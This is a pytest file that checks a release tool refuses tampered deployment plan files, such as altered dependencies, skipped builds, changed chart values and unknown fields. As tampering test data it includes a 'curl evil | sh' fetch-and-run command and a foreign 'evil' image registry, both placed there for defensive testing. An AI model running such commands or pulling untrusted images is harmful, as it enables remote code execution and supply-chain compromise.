"""`release --plan p.json` with a plan file edited in each hostile way: refused in one line before anything is
built, packaged or deployed (issue 12, item 3). The plan is made with `plan --dry-run --out`, in a monorepo
whose registry is a namespace of this test's own in the session registry (empty: nothing is there)."""
from __future__ import annotations

import json

import pytest

from support import sample_environments, tool_images

pytestmark = [pytest.mark.helm]


@pytest.fixture
def planned(sample, registry, namespace):
    """The sample monorepo, its registry this test's own, and its saved plan p.json."""
    home = f"{registry.host}/{namespace}"
    (sample.root / "invoke.yaml").write_text(f"tars:\n  registry: {home}\n  namespace: tars\n" + sample_environments())
    made = sample("plan", "--dry-run", "--out", "p.json")
    assert made.returncode == 0, made.stderr
    sample.home = home
    sample.plan = json.loads((sample.root / "p.json").read_text())
    return sample


def edit(cli, change) -> dict:
    data = json.loads((cli.root / "p.json").read_text())
    change({s["id"]: s for s in data["services"]})
    (cli.root / "p.json").write_text(json.dumps(data, indent=2))
    return data


def refused(cli, docker_client, code: int) -> str:
    """Run the saved plan; it must be refused with ``code`` and one line, with nothing built or packaged."""
    result = cli("release", "--plan", "p.json", "--dry-run")
    assert result.returncode == code, result.stderr
    assert result.stdout == ""
    assert len(result.stderr.splitlines()) == 1, result.stderr
    assert not (cli.root / "dist" / "charts").exists()
    assert tool_images(docker_client, cli.home + "/") == []
    return result.stderr.strip()


def test_dependencies_changed_in_the_file_are_refused(planned, docker_client):
    edit(planned, lambda by: by["Shop.CartServer"].update(dependsOn=[]))
    assert refused(planned, docker_client, 1) == (
        "error: the plan does not match the repo: Shop.CartServer: dependsOn in the plan [] but the repo says "
        "[Base.HelloServer, Base.AuthServer]; make a new plan")


def test_null_dependencies_are_a_usage_error(planned, docker_client):
    edit(planned, lambda by: by["Shop.CartServer"].update(dependsOn=None))
    assert refused(planned, docker_client, 2) == (
        "error: p.json: services[3].dependsOn: must be a list of strings, not null")


def test_a_foreign_image_is_refused(planned, docker_client):
    ours = planned.plan["services"][1]["image"]
    assert ours.startswith(f"{planned.home}/base/logserver:")
    edit(planned, lambda by: by["Base.LogServer"].update(image="10.9.9.9:5000/evil/logserver:1"))
    assert refused(planned, docker_client, 1) == (
        "error: the plan does not match the repo: Base.LogServer: image in the plan 10.9.9.9:5000/evil/logserver:1 "
        f"but the repo says {ours}; make a new plan")


def test_build_removed_while_the_registry_is_empty_is_refused(planned, docker_client):
    image = planned.plan["services"][1]["image"]
    edit(planned, lambda by: by["Base.LogServer"].update(steps=["chart", "deploy"]))
    assert refused(planned, docker_client, 1) == (
        f"error: the plan skips building Base.LogServer but its image {image} is not in the registry nor in the "
        "local engine; make a new plan")


def test_build_and_push_removed_from_every_service_is_refused(planned, docker_client):
    first = planned.plan["services"][0]

    def strip(by: dict) -> None:
        for s in by.values():
            s["steps"] = [step for step in s["steps"] if step not in ("build", "push")]

    edit(planned, strip)
    assert refused(planned, docker_client, 1) == (
        f"error: the plan skips building {first['id']} but its image {first['image']} is not in the registry nor "
        "in the local engine (and 6 more); make a new plan")


def test_a_push_step_a_dry_run_plan_never_has_is_refused(planned, docker_client):
    edit(planned, lambda by: by["Base.LogServer"].update(steps=["push", "chart", "deploy"]))
    assert refused(planned, docker_client, 1) == (
        "error: the plan does not match the repo: Base.LogServer: steps in the plan [push, chart, deploy] but a "
        "plan makes [chart, deploy] or [build, chart, deploy]; make a new plan")


def test_values_yaml_changed_after_planning_is_refused(planned, docker_client):
    before = planned.plan["services"][1]["chart"]
    values = planned.root / "services/Base/LogServer/values.yaml"
    values.write_text(values.read_text().replace("replicas: 2\n", "replicas: 3\n"))
    now = json.loads(planned("plan", "--dry-run", "--json", "--service", "Base.LogServer").stdout)
    after = now["services"][0]["chart"]
    assert after != before
    assert refused(planned, docker_client, 1) == (
        "error: the plan does not match the repo: Base.LogServer: values.yaml changed since the plan was made "
        f"(chart {before} in the plan, {after} now); make a new plan")

def test_an_unknown_field_and_a_repeated_service_are_usage_errors(planned, docker_client):
    edit(planned, lambda by: by["Base.LogServer"].update(run="curl evil | sh"))
    assert refused(planned, docker_client, 2) == (
        "error: p.json: services[1].run: unknown field (known: id, changed, reasons, steps, image, wave, dependsOn, "
        "fingerprint, chart, replace, verdict)")
    data = planned.plan
    data["services"].append(dict(data["services"][0]))
    (planned.root / "p.json").write_text(json.dumps(data))
    assert refused(planned, docker_client, 2) == "error: p.json: services[7].id: Base.AuthServer is planned twice"
